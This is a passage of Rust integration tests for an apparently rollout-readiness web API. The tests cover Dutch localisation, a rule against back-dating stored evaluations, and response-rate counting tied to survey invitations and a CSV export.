    let nl = String::from_utf8(nl.bytes).unwrap();
    assert!(nl.contains("<html lang=\"nl\">") && nl.contains("Berekend op: "));
    assert_error(
        &get(&api, "/api/v1/programs/nope/readiness.html").await,
        StatusCode::NOT_FOUND,
        "not_found",
    );
}

#[tokio::test]
async fn an_evaluation_is_stored_for_today_only_so_history_cannot_be_back_dated() {
    let api = Api::new().await;
    let program = healthy_program(&api).await;
    on_day(&api, "2027-02-07");
    // A week earlier, stored in the same session, would back EXPAND at once.
    for (lang, start) in [
        (
            "nl",
            "Een beoordeling wordt alleen opgeslagen voor vandaag (2027-02-07), niet voor 2027-01-31",
        ),
        (
            "en",
            "An evaluation is stored for today (2027-02-07) only, not for 2027-01-31",
        ),
    ] {
        let r = post(
            &api,
            &format!("{program}/evaluations?at=2027-01-31&lang={lang}"),
        )
        .await;
        assert_error(&r, StatusCode::UNPROCESSABLE_ENTITY, "invalid_date");
        assert_eq!(r.body["error"]["details"]["field"], "at");
        let message = r.body["error"]["message"].as_str().unwrap();
        assert!(message.starts_with(start), "{message}");
    }
    let r = post(&api, &format!("{program}/evaluations?at=2027-02-08")).await;
    assert_error(&r, StatusCode::UNPROCESSABLE_ENTITY, "invalid_date");
    let listed = get(&api, &format!("{program}/evaluations")).await;
    assert_eq!(listed.body, serde_json::json!([]), "nothing was stored");
    // Another day is still there to view, and no history backs EXPAND.
    let r = get(&api, &format!("{program}/readiness?at=2027-01-31")).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["evaluated_at"], "2027-01-31");
    let r = get(&api, &format!("{program}/readiness?at=2027-02-07")).await;
    assert_eq!(r.body["decision"]["kind"], "proceed");
    // Without `at`, or with today's, it is today's.
    let stored = post(&api, &format!("{program}/evaluations")).await;
    assert_eq!(stored.status, StatusCode::CREATED, "{:?}", stored.body);
    assert_eq!(stored.body["at"], "2027-02-07");
    let again = post(&api, &format!("{program}/evaluations?at=2027-02-07")).await;
    assert_eq!(again.status, StatusCode::OK, "{:?}", again.body);
}

/// The response rate's `n`: the people it counts as asked.
fn asked(report: &Value) -> u64 {
    report["segments"][0]["metrics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["id"] == "response_rate")
        .unwrap()["n"]
        .as_u64()
        .unwrap()
}

#[tokio::test]
async fn the_response_rate_counts_the_people_the_links_asked_and_the_export_says_who() {
    let api = demo_with_roster().await;
    // On 1 March the pilot (12) and wave 1 (20) have rolled out; only the pilot has links.
    let path = format!("{DEMO}/readiness?at=2027-03-01");
    let before = get(&api, &path).await;
    assert_eq!(before.status, StatusCode::OK, "{:?}", before.body);
    assert_eq!(before.body["data"]["rolled_out"], 32);
    assert_eq!(asked(&before.body), 12, "wave 1 was never asked");

    let zip = get(&api, &format!("{DEMO}/export.zip")).await;
    let files = unzip(&zip.bytes);
    let (_, csv) = files
        .iter()
        .find(|(n, _)| n == "invitations.csv")
        .expect("the export lists who was asked");
    let csv = String::from_utf8(csv.clone()).unwrap();
    // The pilot survey's personal links; not the pulse's anonymous one, whose questions are
    // about the device, none of them one readiness scores.
    assert!(
        csv.starts_with("survey_id,person_id,invited_at\r\n"),
        "{csv}"
    );
    assert!(csv.contains("\r\npilot-feedback,p001,"), "{csv}");
    assert!(!csv.contains("om-pulse"), "{csv}");
    assert!(!csv.contains("token") && !csv.contains("/r/"), "no link");

    // Links for wave 1: now everyone rolled out was asked, and the evaluation is a new one.
    let r = api
        .call(
            "POST",
            &format!("{DEMO}/surveys/pilot-feedback/invitations/from-roster"),
            Auth::Planner,
            Some("application/json"),
            json!({ "wave": "wave-1" }).to_string(),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let after = get(&api, &path).await;
    assert_eq!(asked(&after.body), 32);
    assert_ne!(
        after.headers["wavegate-inputs"],
        before.headers["wavegate-inputs"]
    );
}
